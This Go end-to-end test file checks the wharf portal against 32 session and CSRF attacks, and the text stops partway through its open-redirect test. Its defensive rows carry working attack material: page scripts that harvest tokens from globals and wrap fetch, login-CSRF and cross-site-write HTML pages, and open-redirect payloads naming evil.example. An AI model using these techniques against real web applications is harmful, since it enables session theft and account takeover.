package portal

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/wharfhub/wharf/test/idp"
	"github.com/wharfhub/wharf/test/testutil"
)

// TestPortalAttacks is the attack table of the portal review (issue 16,
// attempts in ATTACKS.md): an attacker who is admin of their own
// workspace (mallory) or who wrote a provider whose UI script runs in the
// portal (portalprobe) tries to steal alice's session, act as her, or see
// a workspace neither may see. Each row fails if its attack succeeds.
func TestPortalAttacks(t *testing.T) {
	a := startAttack(t)
	rows := []struct {
		id, what, safe string
		run            func(t *testing.T)
	}{
		{"portal:1", "page script reads document.cookie", "no session cookie", a.docCookie},
		{"portal:2", "page script scans storage, globals and the DOM for the CSRF token", "absent", a.scanGlobals},
		{"portal:3", "page script GETs /auth/session", "no csrfToken", a.authSession},
		{"portal:4", "page script imports the shell's modules and scans their exports", "no token", a.shellModules},
		{"portal:5", "page script wraps fetch/Headers/XHR, then drives the shell into a write", "wrappers never see X-Wharf-CSRF", a.wrapThenWrite},
		{"portal:6", "cookie write (create workspace) without X-Wharf-CSRF", "403, nothing created", a.writeNoCSRF},
		{"portal:7", "cookie write with another session's CSRF token", "403, nothing created", a.writeOtherCSRF},
		{"portal:8", "cross-origin POST to /auth/token-session (login CSRF over HTTP)", "refused, no cookie", a.loginCSRFHTTP},
		{"portal:9", "evil origin auto-submits the token form in alice's browser", "alice stays alice", a.loginCSRFBrowser},
		{"portal:10", "evil origin form and no-cors fetch create a workspace with alice's cookie", "nothing created", a.crossSiteWrite},
		{"portal:11", "then= open redirect after OIDC sign-in and on the token form", "always lands on the hub", a.openRedirect},
		{"portal:12", "workspace cookie / X-Wharf-Workspace naming bob's home on the backend proxy", "403, like a missing workspace", a.workspaceCookie},
		{"portal:13", "provider page name with markup (inline script through the name)", "nothing injected, CSP strict", a.nameInjection},
		{"portal:14", "<wharf-provider-<name>> element name injection", "no foreign element, no script", a.elementInjection},
		{"portal:15", "clickjacking: the portal's pages in a frame", "frame-ancestors 'none' everywhere", a.clickjacking},
		{"portal:16", "token form with a deleted service account's token", "refused", a.deletedSAToken},
		{"portal:17", "session from an SA token outliving the SA", "refused after deletion", a.saSessionOutlives},
		{"portal:18", "session fixation: sign-in while presenting mallory's session", "new cookie; old stays mallory's", a.fixation},
		{"portal:19", "sign-out, then replay the cookie and the CSRF token", "401", a.signoutReplay},
		{"portal:20", "cross-origin or CSRF-less logout", "session survives", a.logoutCSRF},
		{"portal:21", "UI and backend proxy path traversal to hub APIs and other providers", "no hub content, no other backend", a.traversal},
		{"portal:22", "workspace tree, children lists and overview of invisible workspaces", "no names leak", a.treeLeak},
		{"portal:23", "wharf ws use: invisible vs missing path and id", "same answer, kubeconfig kept", a.wsUse},
		{"portal:24", "wharf ws delete (and cookie DELETE) of a workspace not yours", "refused, still there", a.wsDelete},
		{"portal:25", "provider api.fetch writes outside its backend (../, \\, %2e, toString, Request, other origin)", "never sent with the CSRF header", a.apiFetchEscape},
		{"portal:26", "provider registers a service worker over its pages to read the shell document", "no token", a.serviceWorker},
		{"portal:27", "page script window.open()s the shell and races the CSRF meta", "no token", a.popupRace},
		{"portal:28", "same-origin iframe/object of the shell read by the page", "no token", a.frameRead},
		{"portal:29", "CORS: evil origin credentialed reads", "no ACAO for evil", a.cors},
		{"portal:30", "writes with a valid CSRF token to paths the shell lets a provider write (..%2f under its backend or group prefix)", "never reach another API", a.serverNormalize},
		{"portal:31", "page script opens a cookie-authenticated websocket (exec, edge ssh) without the CSRF token", "refused", a.cookieUpgrade},
		{"portal:32", "a provider's manifest claims a CRD in another provider's group (edges.wharf.dev); its api.fetch then writes edges as the user", "refused", a.groupClaim},
	}
	for _, r := range rows {
		t.Run(r.id, func(t *testing.T) {
			t.Logf("%s: %s; safe outcome: %s", r.id, r.what, r.safe)
			r.run(t)
		})
	}
}

// attackEnv is one hub with OIDC (the test IdP, person ada) and token
// login on, static tokens for alice, bob and mallory, portalprobe enabled
// in alice's home and hello in bob's, root:secret seen by nobody, and a
// chromium signed in as alice through the token form.
type attackEnv struct {
	env     *portalEnv
	hub     *testutil.Hub
	hc      *http.Client
	b       *browser
	alice   sess // the browser's session (HTTP copy made by its own sign-in)
	aliceW  whoami
	bobW    whoami
	mal     sess
	malW    whoami
	secret  string // root:secret
	secretC string // its cluster id
	canary  string // a ConfigMap value in root:secret

	evil     string // http://localhost:<port>, the attacker's origin
	evilMu   sync.Mutex
	evilPage string
	evilSaw  []http.Header
}

type sess struct{ cookie, csrf string }

var attackTokens = map[string]string{"alice": "alice-attack-token", "bob": "bob-attack-token", "mallory": "mallory-attack-token"}

func startAttack(t *testing.T) *attackEnv {
	t.Helper()
	port := testutil.FreePort(t)
	hubURL := fmt.Sprintf("https://127.0.0.1:%d", port)
	p := idp.StartWith(t, idp.Options{
		Clients: []idp.Client{{ID: "wharf", Secret: "hub-client-secret", RedirectURIs: []string{hubURL + "/auth/callback"}}},
		Users:   []idp.User{person},
	})
	dir := t.TempDir()
	secret := filepath.Join(dir, "client-secret")
	tokens := filepath.Join(dir, "tokens.csv")
	var csv strings.Builder
	for _, n := range []string{"alice", "bob", "mallory"} {
		fmt.Fprintf(&csv, "%s,%s,%s-uid,\"devs\"\n", attackTokens[n], n, n)
	}
	for f, s := range map[string]string{secret: "hub-client-secret\n", tokens: csv.String()} {
		if err := os.WriteFile(f, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	args := []string{
		"--oidc-issuer-url=" + p.URL, "--oidc-client-id=wharf", "--oidc-ca-file=" + p.CAFile,
		"--oidc-client-secret-file=" + secret, "--oidc-groups-claim=groups",
		"--token-auth-file=" + tokens, "--enable-token-login",
		"--login-rate-limit=100", "--login-rate-burst=1000",
		"--provider", "hello=" + testutil.Binary(t, "wharf-provider-hello"),
		"--provider", "portalprobe=" + testutil.Build(t, "./test/e2e/portalprobe", "wharf-provider-portalprobe"),
		// edges first: the hostile portalclaim arrives after the provider whose group it claims.
		"--provider", "edges=" + testutil.Binary(t, "wharf-provider-edges"),
		"--provider", "portalclaim=" + testutil.Build(t, "./test/e2e/portalprobe", "wharf-provider-portalclaim"),
	}
	h := testutil.StartHub(t, testutil.HubOptions{Port: port, Args: args})
	hc, err := h.Client()
	if err != nil {
		t.Fatal(err)
	}
	hc.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	a := &attackEnv{env: &portalEnv{hub: h, idp: p}, hub: h, hc: hc, secret: "root:secret", canary: "canary-topsecret-7f3a"}

	// The attacker's origin: serves whatever page a row sets, and records
	// what reaches it.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a.evil = fmt.Sprintf("http://localhost:%d", l.Addr().(*net.TCPAddr).Port)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.evilMu.Lock()
		a.evilSaw = append(a.evilSaw, r.Header.Clone())
		page := a.evilPage
		a.evilMu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, page)
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })

	// Hub state, as the admin.
	a.admin(t, "POST", "/clusters/root/apis/tenancy.wharf.dev/v1alpha1/workspaces", `{"apiVersion":"tenancy.wharf.dev/v1alpha1","kind":"Workspace","metadata":{"name":"secret"}}`, 201)
	a.waitReady(t, "root", "secret")
	a.admin(t, "POST", "/clusters/root:secret/apis/tenancy.wharf.dev/v1alpha1/workspaces", `{"apiVersion":"tenancy.wharf.dev/v1alpha1","kind":"Workspace","metadata":{"name":"hidden-child"}}`, 201)
	a.admin(t, "POST", "/clusters/root:secret/api/v1/namespaces/default/configmaps", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"loot"},"data":{"k":"`+a.canary+`"}}`, 201)
	var adminW whoami
	a.getJSON(t, "/api/whoami", map[string]string{"Authorization": "Bearer " + h.AdminToken}, &adminW)
	a.secretC = adminW.cluster(a.secret)

	a.getJSON(t, "/api/whoami", map[string]string{"Authorization": "Bearer " + attackTokens["alice"]}, &a.aliceW)
	a.getJSON(t, "/api/whoami", map[string]string{"Authorization": "Bearer " + attackTokens["bob"]}, &a.bobW)
	a.getJSON(t, "/api/whoami", map[string]string{"Authorization": "Bearer " + attackTokens["mallory"]}, &a.malW)
	if a.secretC == "" || a.aliceW.Home.Path == "" || a.bobW.Home.Path == "" || a.malW.Home.Path == "" {
		t.Fatalf("setup: secret cluster %q, homes %q %q %q", a.secretC, a.aliceW.Home.Path, a.bobW.Home.Path, a.malW.Home.Path)
	}
	bind := func(ws, provider string) {
		a.admin(t, "POST", "/clusters/"+ws+"/apis/providers.wharf.dev/v1alpha1/providerbindings",
			`{"apiVersion":"providers.wharf.dev/v1alpha1","kind":"ProviderBinding","metadata":{"name":"`+provider+`"},"spec":{"provider":"`+provider+`"}}`, 201)
	}
	bind(a.aliceW.Home.Path, "portalprobe")
	bind(a.bobW.Home.Path, "portalprobe")
	bind(a.bobW.Home.Path, "hello")
	bind(a.secret, "portalprobe")
	bind(a.aliceW.Home.Path, "edges")
	bind(a.aliceW.Home.Path, "portalclaim")
	a.mal = a.tokenSession(t, attackTokens["mallory"], nil)

	// Alice's browser, signed in through the token form.
	a.b = newBrowser(t, a.env)
	a.b.do("open the portal", chromedp.Navigate(h.URL+"/ui/?ws="+url.QueryEscape(a.aliceW.Home.Path)))
	a.b.waitState("signin")
	a.b.do("sign in with the token form",
		chromedp.WaitVisible(tid("signin-token-input")),
		chromedp.SendKeys(tid("signin-token-input"), attackTokens["alice"]),
		chromedp.Click(tid("signin-token-submit")))
	a.b.waitState("ready")
	a.alice.cookie = cookieValue(a.b, "__Host-wharf_session")
	a.alice.csrf = csrfFor(t, a.env, a.alice.cookie)
	return a
}

// do sends one request to the hub; cookie names the session, ws the
// workspace cookie.
func (a *attackEnv) do(t *testing.T, method, path, body string, hdr map[string]string, cookies ...*http.Cookie) (int, string, http.Header) {
	t.Helper()
	req, err := http.NewRequest(method, a.hub.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	// Keep the path byte for byte (.., %2e, backslashes).
	req.URL.Opaque = ""
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	for _, c := range cookies {
		req.AddCookie(c)
	}
	resp, err := a.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func sessionCookie(v string) *http.Cookie {
	return &http.Cookie{Name: "__Host-wharf_session", Value: v}
}

func (a *attackEnv) admin(t *testing.T, method, path, body string, want int) string {
	t.Helper()
	code, b, _ := a.do(t, method, path, body, map[string]string{"Authorization": "Bearer " + a.hub.AdminToken, "Content-Type": "application/json"})
	if want != 0 && code != want {
		t.Fatalf("admin %s %s: %d %s", method, path, code, b)
	}
	return b
}

func (a *attackEnv) getJSON(t *testing.T, path string, hdr map[string]string, v any) {
	t.Helper()
	code, b, _ := a.do(t, "GET", path, "", hdr)
	if code != 200 {
		t.Fatalf("GET %s: %d %s", path, code, b)
	}
	if err := json.Unmarshal([]byte(b), v); err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
}

func (a *attackEnv) waitReady(t *testing.T, parent, name string) {
	t.Helper()
	eventually(t, 60*time.Second, func() error {
		code, b, _ := a.do(t, "GET", "/clusters/"+parent+"/apis/tenancy.wharf.dev/v1alpha1/workspaces/"+name, "", map[string]string{"Authorization": "Bearer " + a.hub.AdminToken})
		if code != 200 || !strings.Contains(b, `"Ready"`) {
			return fmt.Errorf("%s:%s: %d %.200s", parent, name, code, b)
		}
		return nil
	})
}

// exists says whether workspace name exists under parent (as the admin).
func (a *attackEnv) exists(t *testing.T, parent, name string) bool {
	t.Helper()
	code, b, _ := a.do(t, "GET", "/clusters/"+parent+"/apis/tenancy.wharf.dev/v1alpha1/workspaces/"+name, "", map[string]string{"Authorization": "Bearer " + a.hub.AdminToken})
	switch code {
	case 200:
		return true
	case 404:
		return false
	}
	t.Fatalf("admin GET workspace %s:%s: %d %s", parent, name, code, b)
	return false
}

// tokenSession signs in with token through /auth/token-session as the
// shell does and returns the session and its CSRF token.
func (a *attackEnv) tokenSession(t *testing.T, token string, extra []*http.Cookie) sess {
	t.Helper()
	code, b, hdr := a.do(t, "POST", "/auth/token-session", "token="+url.QueryEscape(token),
		map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Origin": a.hub.URL, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}, extra...)
	if code != http.StatusNoContent {
		t.Fatalf("token sign-in: %d %s", code, b)
	}
	c := setCookie(hdr, "__Host-wharf_session")
	if c == "" {
		t.Fatalf("token sign-in set no session cookie: %v", hdr)
	}
	return sess{cookie: c, csrf: csrfFor(t, a.env, c)}
}

func setCookie(hdr http.Header, name string) string {
	for _, c := range (&http.Response{Header: hdr}).Cookies() {
		if c.Name == name && c.MaxAge >= 0 && c.Value != "" {
			return c.Value
		}
	}
	return ""
}

func wsJSON(name string) string {
	return `{"apiVersion":"tenancy.wharf.dev/v1alpha1","kind":"Workspace","metadata":{"name":"` + name + `"}}`
}

func (a *attackEnv) wsCollection(ws string) string {
	return "/clusters/" + ws + "/apis/tenancy.wharf.dev/v1alpha1/workspaces"
}

// toHome puts alice's browser on her home's overview.
func (a *attackEnv) toHome(t *testing.T) *browser {
	b := a.b.in(t)
	b.do("open alice's home", chromedp.Navigate(a.hub.URL+"/ui/?ws="+url.QueryEscape(a.aliceW.Home.Path)))
	b.waitState("ready")
	return b
}

func (a *attackEnv) noSecret(t *testing.T, what, got string) {
	t.Helper()
	for name, s := range map[string]string{"session cookie": a.alice.cookie, "CSRF token": a.alice.csrf} {
		if s != "" && strings.Contains(got, s) {
			t.Errorf("ATTACK SUCCEEDED: %s reveals alice's %s", what, name)
		}
	}
}

// --- rows ---

func (a *attackEnv) docCookie(t *testing.T) {
	b := a.toHome(t)
	c := eval[string](b, `document.cookie`)
	a.noSecret(t, "document.cookie", c)
	if strings.Contains(c, "wharf_session") {
		t.Errorf("ATTACK SUCCEEDED: document.cookie shows the session cookie: %q", c)
	}
}

func (a *attackEnv) scanGlobals(t *testing.T) {
	b := a.toHome(t)
	all := eval[string](b, `(() => {
		const out = [document.documentElement.outerHTML];
		for (const s of [localStorage, sessionStorage]) for (let i = 0; i < s.length; i++) out.push(s.key(i) + "=" + s.getItem(s.key(i)));
		const seen = new Set();
		const walk = (v, depth) => {
			if (v == null || depth > 3) return;
			if (typeof v === "string") { out.push(v); return; }
			if (typeof v !== "object" && typeof v !== "function") return;
			if (seen.has(v) || v === window.document) return;
			seen.add(v);
			let keys = [];
			try { keys = Object.getOwnPropertyNames(v); } catch (e) { return; }
			for (const k of keys) { let x; try { x = v[k]; } catch (e) { continue; } walk(x, depth + 1); }
		};
		for (const k of Object.getOwnPropertyNames(window)) { let x; try { x = window[k]; } catch (e) { continue; } if (typeof x === "string" || (x && typeof x === "object" && !(x instanceof Node))) walk(x, 1); }
		for (const el of document.querySelectorAll("*")) for (const k of Object.getOwnPropertyNames(el)) { try { walk(el[k], 1); } catch (e) {} }
		return out.join("\n");
	})()`)
	a.noSecret(t, "storage, globals, element properties and the DOM", all)
}

func (a *attackEnv) authSession(t *testing.T) {
	b := a.toHome(t)
	body := eval[string](b, `fetch("/auth/session", {credentials: "include"}).then(r => r.text())`)
	a.noSecret(t, "/auth/session as a page script", body)
	if strings.Contains(body, "csrfToken") && !strings.Contains(body, `"csrfToken":""`) {
		t.Errorf("ATTACK SUCCEEDED: /auth/session gave a page script a csrfToken: %s", body)
	}
	// With a navigate-looking request the page cannot forge: fetch drops
	// Sec-Fetch-* set by a script, so this must still get no token.
	body = eval[string](b, `fetch("/auth/session", {headers: {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}}).then(r => r.text()).catch(e => String(e))`)
	a.noSecret(t, "/auth/session with forged Sec-Fetch headers", body)
	body = eval[string](b, `fetch("/ui/?ws=x", {headers: {"Accept": "text/html", "Sec-Fetch-Mode": "navigate"}}).then(r => r.text()).catch(e => String(e))`)
	a.noSecret(t, "a script's fetch of the shell page", body)
}

func (a *attackEnv) shellModules(t *testing.T) {
	b := a.toHome(t)
	all := eval[string](b, `(async () => {
		const urls = new Set([...document.querySelectorAll("script[src]")].map(s => s.src));
		for (const e of performance.getEntriesByType("resource")) if (e.name.includes("/ui/shell/") && e.name.endsWith(".js")) urls.add(e.name);
		const out = [[...urls].join(" ")];
		const seen = new Set();
		const walk = (v, d) => {
			if (v == null || d > 4) return;
			if (typeof v === "string") { out.push(v); return; }
			if (typeof v !== "object" && typeof v !== "function") return;
			if (seen.has(v)) return; seen.add(v);
			let keys = []; try { keys = Reflect.ownKeys(v); } catch (e) { return; }
			for (const k of keys) { let x; try { x = v[k]; } catch (e) { continue; } walk(x, d + 1); }
		};
		for (const u of urls) { try { const m = await import(u); walk(m, 0);
			for (const k of Object.keys(m)) if (typeof m[k] === "function" && m[k].length === 0 && /token|csrf|session|header/i.test(k)) { try { walk(await m[k](), 0); } catch (e) {} } } catch (e) { out.push("import " + u + ": " + e); } }
		return out.join("\n");
	})()`)
	if !strings.Contains(all, "/ui/shell/") {
		t.Fatalf("found no shell module to import: %.300s", all)
	}
	a.noSecret(t, "the shell's module exports", all)
}

// trap installs wrappers that record every header value a page's code
// hands fetch, Request, Headers or XHR.
const trap = `(() => {
	window.__seen = [];
	const rec = (where, k, v) => window.__seen.push(where + " " + k + "=" + v);
	const scan = (where, h) => { try { if (!h) return; if (h instanceof Headers) { for (const [k, v] of h) rec(where, k, v); } else if (Array.isArray(h)) { for (const [k, v] of h) rec(where, k, v); } else for (const k of Object.keys(h)) rec(where, k, h[k]); } catch (e) {} };
	const of = window.fetch;
	window.fetch = function (input, init) { scan("fetch", init && init.headers); if (input instanceof Request) scan("fetch-req", input.headers); return of.apply(this, arguments); };
	for (const m of ["set", "append"]) { const o = Headers.prototype[m]; Headers.prototype[m] = function (k, v) { rec("Headers." + m, k, v); return o.call(this, k, v); }; }
	const osh = XMLHttpRequest.prototype.setRequestHeader;
	XMLHttpRequest.prototype.setRequestHeader = function (k, v) { rec("xhr", k, v); return osh.call(this, k, v); };
	for (const k of ["X-Wharf-CSRF", "x-wharf-csrf"]) Object.defineProperty(Object.prototype, k, { configurable: true, set(v) { rec("Object.prototype", k, v); Object.defineProperty(this, k, {value: v, writable: true, enumerable: true, configurable: true}); } });
	return true;
})()`

func (a *attackEnv) wrapThenWrite(t *testing.T) {
	b := a.toHome(t)
	eval[bool](b, trap)
	b.do("open the create dialog", chromedp.WaitEnabled(tid("ws-create-open")), chromedp.Click(tid("ws-create-open")), chromedp.WaitVisible(tid("ws-create-dialog")))
	b.do("name the child", chromedp.SendKeys(tid("ws-create-name"), "via-shell"))
	b.do("create it", chromedp.Click(tid("ws-create-submit")), chromedp.WaitNotVisible(tid("ws-create-dialog")))
	eventually(t, 30*time.Second, func() error {
		if !a.exists(t, a.aliceW.Home.Path, "via-shell") {
			return fmt.Errorf("the shell's create did not happen (so the trap saw no write)")
		}
		return nil
	})
	seen := eval[[]string](b, `window.__seen`)
	a.noSecret(t, "the page's fetch/Headers/XHR wrappers", strings.Join(seen, "\n"))
	for _, s := range seen {
		if strings.Contains(strings.ToLower(s), "x-wharf-csrf") {
			t.Errorf("ATTACK SUCCEEDED: a wrapper saw %s", s)
		}
	}
}

func (a *attackEnv) writeNoCSRF(t *testing.T) {
	for i, hdr := range []map[string]string{
		{"Content-Type": "application/json", "Origin": a.hub.URL, "Sec-Fetch-Site": "same-origin"},
		{"Content-Type": "application/json"},
		{"Content-Type": "application/json", "X-Wharf-CSRF": ""},
	} {
		name := fmt.Sprintf("nocsrf-%d", i)
		code, body, _ := a.do(t, "POST", a.wsCollection(a.aliceW.Home.Path), wsJSON(name), hdr, sessionCookie(a.alice.cookie))
		if code != http.StatusForbidden {
			t.Errorf("cookie write without CSRF header (%v): %d %.200s, want 403", hdr, code, body)
		}
		if a.exists(t, a.aliceW.Home.Path, name) {
			t.Errorf("ATTACK SUCCEEDED: workspace %s created without the CSRF header", name)
		}
	}
	// Other verbs: patch and delete of something alice has.
	code, _, _ := a.do(t, "DELETE", "/clusters/"+a.aliceW.Home.Path+"/apis/providers.wharf.dev/v1alpha1/providerbindings/portalprobe", "", map[string]string{"Origin": a.hub.URL}, sessionCookie(a.alice.cookie))
	if code != http.StatusForbidden {
		t.Errorf("cookie DELETE without CSRF: %d, want 403", code)
	}
	code, _, _ = a.do(t, "PATCH", "/clusters/"+a.aliceW.Home.Path+"/api/v1/namespaces/default", `{"metadata":{"labels":{"pwn":"1"}}}`, map[string]string{"Content-Type": "application/merge-patch+json"}, sessionCookie(a.alice.cookie))
	if code != http.StatusForbidden {
		t.Errorf("cookie PATCH without CSRF: %d, want 403", code)
	}
}

func (a *attackEnv) writeOtherCSRF(t *testing.T) {
	for i, tok := range []string{a.mal.csrf, strings.ToUpper(a.alice.csrf), a.alice.csrf[:len(a.alice.csrf)-1]} {
		name := fmt.Sprintf("othercsrf-%d", i)
		code, body, _ := a.do(t, "POST", a.wsCollection(a.aliceW.Home.Path), wsJSON(name),
			map[string]string{"Content-Type": "application/json", "Origin": a.hub.URL, "X-Wharf-CSRF": tok}, sessionCookie(a.alice.cookie))
		if code != http.StatusForbidden || a.exists(t, a.aliceW.Home.Path, name) {
			t.Errorf("ATTACK SUCCEEDED? alice's cookie with a wrong CSRF token (variant %d): %d %.200s", i, code, body)
		}
	}
	// And mallory's session with alice's token writes nothing in alice's home.
	code, _, _ := a.do(t, "POST", a.wsCollection(a.aliceW.Home.Path), wsJSON("othercsrf-mal"),
		map[string]string{"Content-Type": "application/json", "Origin": a.hub.URL, "X-Wharf-CSRF": a.alice.csrf}, sessionCookie(a.mal.cookie))
	if code/100 == 2 {
		t.Errorf("ATTACK SUCCEEDED: mallory's cookie with alice's CSRF token wrote in alice's home: %d", code)
	}
}

func (a *attackEnv) loginCSRFHTTP(t *testing.T) {
	form := "token=" + attackTokens["mallory"]
	for i, hdr := range []map[string]string{
		{"Origin": "https://evil.example"},
		{"Origin": "null"},
		{"Origin": a.evil},
		{"Sec-Fetch-Site": "cross-site"},
		{"Sec-Fetch-Site": "same-site", "Origin": "https://127.0.0.1:1"},
		{"Referer": "https://evil.example/x", "Sec-Fetch-Site": "cross-site"},
		{"Origin": strings.Replace(a.hub.URL, "https", "http", 1)},
	} {
		hdr["Content-Type"] = "application/x-www-form-urlencoded"
		code, body, h := a.do(t, "POST", "/auth/token-session", form, hdr)
		if code/100 == 2 || setCookie(h, "__Host-wharf_session") != "" {
			t.Errorf("ATTACK SUCCEEDED: cross-site token sign-in variant %d (%v): %d %.200s, cookie set", i, hdr, code, body)
		}
	}
	// text/plain (a form's enctype) from evil, too.
	code, _, h := a.do(t, "POST", "/auth/token-session", form, map[string]string{"Content-Type": "text/plain", "Origin": a.evil})
	if code/100 == 2 || setCookie(h, "__Host-wharf_session") != "" {
		t.Errorf("ATTACK SUCCEEDED: text/plain cross-site token sign-in: %d", code)
	}
	// The kubeconfig endpoint with a cookie only, cross-site: no kubeconfig.
	code, body, _ := a.do(t, "POST", "/auth/token-login", "", map[string]string{"Origin": a.evil}, sessionCookie(a.alice.cookie))
	if code/100 == 2 && strings.Contains(body, "token") {
		t.Errorf("ATTACK SUCCEEDED: /auth/token-login turned alice's cookie into a kubeconfig for another origin: %d %.200s", code, body)
	}
}

func (a *attackEnv) setEvil(page string) {
	a.evilMu.Lock()
	a.evilPage = page
	a.evilSaw = nil
	a.evilMu.Unlock()
}

func (a *attackEnv) browserUser(t *testing.T, b *browser) string {
	b.do("back to the portal", chromedp.Navigate(a.hub.URL+"/ui/?ws="+url.QueryEscape(a.aliceW.Home.Path)))
	b.waitState("ready")
	return eval[string](b, `fetch("/api/whoami").then(r => r.json()).then(j => j.user)`)
}

func (a *attackEnv) loginCSRFBrowser(t *testing.T) {
	b := a.b.in(t)
	a.setEvil(`<!doctype html><html><body>
<form id=f method=POST action="` + a.hub.URL + `/auth/token-session"><input name=token value="` + attackTokens["mallory"] + `"></form>
<form id=g method=POST enctype="text/plain" action="` + a.hub.URL + `/auth/token-session"><input name=token value="` + attackTokens["mallory"] + `"></form>
<script>
fetch("` + a.hub.URL + `/auth/token-session", {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "token=` + attackTokens["mallory"] + `"}).finally(() => {
  document.title = "fetched";
  setTimeout(() => document.getElementById(location.hash === "#g" ? "g" : "f").submit(), 200);
});
</script></body></html>`)
	for _, frag := range []string{"#f", "#g"} {
		b.do("visit the evil page", chromedp.Navigate(a.evil+"/login-csrf"+frag))
		time.Sleep(3 * time.Second)
		if u := a.browserUser(t, b); u != "alice" {
			t.Fatalf("ATTACK SUCCEEDED: after the evil page (%s) the browser is signed in as %q, want alice", frag, u)
		}
		if c := cookieValue(b, "__Host-wharf_session"); c != a.alice.cookie {
			t.Errorf("the evil page (%s) replaced alice's session cookie", frag)
			a.alice.cookie = c
			a.alice.csrf = csrfFor(t, a.env, c)
		}
	}
}

func (a *attackEnv) crossSiteWrite(t *testing.T) {
	b := a.b.in(t)
	coll := a.hub.URL + a.wsCollection(a.aliceW.Home.Path)
	a.setEvil(`<!doctype html><html><body>
<form id=f method=POST enctype="text/plain" action="` + coll + `"><input name='{"apiVersion":"tenancy.wharf.dev/v1alpha1","kind":"Workspace","metadata":{"name":"xsite-form"},"x":"' value='"}'></form>
<script>
fetch("` + coll + `", {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"}, body: '` + wsJSON("xsite-fetch") + `'}).finally(() => document.getElementById("f").submit());
</script></body></html>`)
	b.do("visit the evil page", chromedp.Navigate(a.evil+"/xsite"))
	time.Sleep(3 * time.Second)
	for _, n := range []string{"xsite-form", "xsite-fetch"} {
		if a.exists(t, a.aliceW.Home.Path, n) {
			t.Errorf("ATTACK SUCCEEDED: the evil origin created workspace %s with alice's cookie", n)
		}
	}
	// Over HTTP with the cookie (a browser without SameSite) and a form type.
	code, _, _ := a.do(t, "POST", a.wsCollection(a.aliceW.Home.Path), wsJSON("xsite-http"),
		map[string]string{"Content-Type": "text/plain", "Origin": a.evil, "Sec-Fetch-Site": "cross-site"}, sessionCookie(a.alice.cookie))
	if code/100 == 2 || a.exists(t, a.aliceW.Home.Path, "xsite-http") {
		t.Errorf("ATTACK SUCCEEDED: cross-site cookie write over HTTP: %d", code)
	}
}

func (a *attackEnv) openRedirect(t *testing.T) {
	hubU, _ := url.Parse(a.hub.URL)
	// Over HTTP first: where /auth/login sends the browser must be the
	// IdP or the hub, and the then= value must not be echoed as a
	// Location elsewhere.
	variants := []string{"//evil.example/x", "https://evil.example/x", "https:evil.example", "/\\evil.example", "\\\\evil.example",
		"%2F%2Fevil.example", "/%2Fevil.example", "/%5Cevil.example", "/\t/evil.example", " //evil.example", "javascript:alert(1)",
		"http://127.0.0.1:1/", "//" + hubU.Host + "@evil.example/", "/.//evil.example"}
	for _, v := range variants {
		code, _, h := a.do(t, "GET", "/auth/login?then="+url.QueryEscape(v), "", map[string]string{"Accept": "text/html", "Sec-Fetch-Mode": "navigate"})
		loc := h.Get("Location")
		if code/100 == 3 {
			lu, err := url.Parse(loc)
			if err != nil || (lu.Host != "" && lu.Host != hubU.Host && !strings.HasPrefix(a.env.idp.URL, lu.Scheme+"://"+lu.Host)) {
				t.Errorf("ATTACK SUCCEEDED: /auth/login?then=%q redirects to %q", v, loc)
			}
		}
		// The token form with then=, too.
		code, body, h := a.do(t, "POST", "/auth/token-session?then="+url.QueryEscape(v), "then="+url.QueryEscape(v)+"&token="+attackTokens["bob"],
			map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Origin": a.hub.URL})
		if l := h.Get("Location"); l != "" && strings.Contains(l, "evil") {
			t.Errorf("ATTACK SUCCEEDED: token sign-in with then=%q redirects to %q (%d %.100s)", v, l, code, body)
		}
	}
	// Through the whole OIDC flow in a fresh browser: ada signs in once,
	// then the IdP's session sends her straight back.
	b := newBrowser(t, a.env).in(t)
	for i, v := range append([]string{"/ui/catalog?legit=1"}, variants...) {
		b.do("start sign-in with then="+v, chromedp.Navigate(a.hub.URL+"/auth/login?then="+url.QueryEscape(v)))
		deadline := time.Now().Add(30 * time.Second)
		for {
			loc := b.location()
			lu, _ := url.Parse(loc)
			if strings.HasPrefix(loc, a.env.idp.URL) {
				if n := eval[int](b, `document.querySelectorAll("input[name=username]").length`); n > 0 {
					b.do("fill the IdP form",
						chromedp.SendKeys(`input[name=username]`, person.Username),
						chromedp.SendKeys(`input[name=password]`, person.Password),
						chromedp.Click(`button[type=submit]`))
				}
			} else if lu != nil && lu.Host == hubU.Host && !strings.HasPrefix(lu.Path, "/auth/") {
				if i == 0 && lu.Path != "/ui/catalog" {
					t.Errorf("the legitimate then=%s landed at %s", v, loc)
				}
				break
			} else if lu != nil && lu.Host == hubU.Host && lu.Path == "/auth/login" && i > 0 && time.Until(deadline) < 27*time.Second {
				// Refused at /auth/login, before the IdP: an error page on the hub.
				t.Logf("then=%q: refused at %s", v, loc)
				break
			} else if lu != nil && lu.Host != hubU.Host && lu.Scheme != "" {
				t.Errorf("ATTACK SUCCEEDED: after sign-in with then=%q the browser is at %s", v, loc)
				break
			}
			if time.Now().After(deadline) {
				if i == 0 || !strings.Contains(loc, hubU.Host) {
